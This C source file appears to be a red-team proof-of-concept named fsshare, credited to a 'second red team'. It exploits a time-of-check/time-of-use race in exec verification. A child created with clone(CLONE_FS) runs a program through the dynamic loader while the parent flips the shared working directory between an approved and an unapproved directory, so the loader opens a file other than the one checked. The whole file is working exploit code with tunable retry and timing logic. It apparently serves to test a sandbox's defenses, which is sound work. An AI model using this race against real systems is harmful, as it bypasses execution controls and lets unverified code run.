// fsshare shares the exec caller's working directory with another process
// (clone(CLONE_FS) without CLONE_THREAD; found by the second red team): the
// parent flips the shared cwd between GOOD and BAD while the child runs
// ./NAME through the dynamic loader, which opens it by name after the exec
// was checked and verified.
//
//	fsshare -n N -g GOOD -b BAD -l LOADER -p NAME ARG
//
// It first reports what clone(CLONE_FS) and clone(CLONE_FILES) say, then
// makes N attempts if they are allowed. One summary line follows:
// summary n=N tried=T.
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static long tryClone(unsigned long flags) {
	long r = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
	if (r == 0)
		_exit(0);
	if (r > 0)
		waitpid(r, NULL, 0);
	return r;
}

int main(int argc, char **argv) {
	int n = 100, opt;
	char *good = NULL, *bad = NULL, *loader = NULL, *name = NULL;
	while ((opt = getopt(argc, argv, "n:g:b:l:p:")) != -1) {
		switch (opt) {
		case 'n': n = atoi(optarg); break;
		case 'g': good = optarg; break;
		case 'b': bad = optarg; break;
		case 'l': loader = optarg; break;
		case 'p': name = optarg; break;
		default: return 2;
		}
	}
	if (!good || !bad || !loader || !name || optind >= argc) {
		fprintf(stderr, "usage: fsshare -n N -g GOOD -b BAD -l LOADER -p NAME ARG\n");
		return 2;
	}
	char *arg = argv[optind];
	long fs = tryClone(CLONE_FS);
	printf("clone(CLONE_FS): %s\n", fs < 0 ? strerror(errno) : "ok");
	long files = tryClone(CLONE_FILES);
	printf("clone(CLONE_FILES): %s\n", files < 0 ? strerror(errno) : "ok");
	fflush(stdout);
	int tried = 0;
	for (int i = 0; fs >= 0 && i < n; i++) {
		if (chdir(good) < 0)
			return 2;
		fflush(stdout);
		long c = syscall(SYS_clone, CLONE_FS | SIGCHLD, 0, 0, 0, 0);
		if (c == 0) {
			char *args[] = {loader, name, arg, NULL};
			execve(loader, args, environ);
			_exit(127);
		}
		if (c < 0)
			break;
		tried++;
		unsigned spin = 50 + (i * 37) % 400;
		int st;
		for (;;) {
			if (chdir(bad) < 0)
				break;
			for (volatile unsigned s = 0; s < spin; s++)
				;
			if (chdir(good) < 0)
				break;
			for (volatile unsigned s = 0; s < spin; s++)
				;
			if (waitpid(c, &st, WNOHANG) == c)
				break;
		}
	}
	printf("summary n=%d tried=%d\n", n, tried);
	return 0;
}
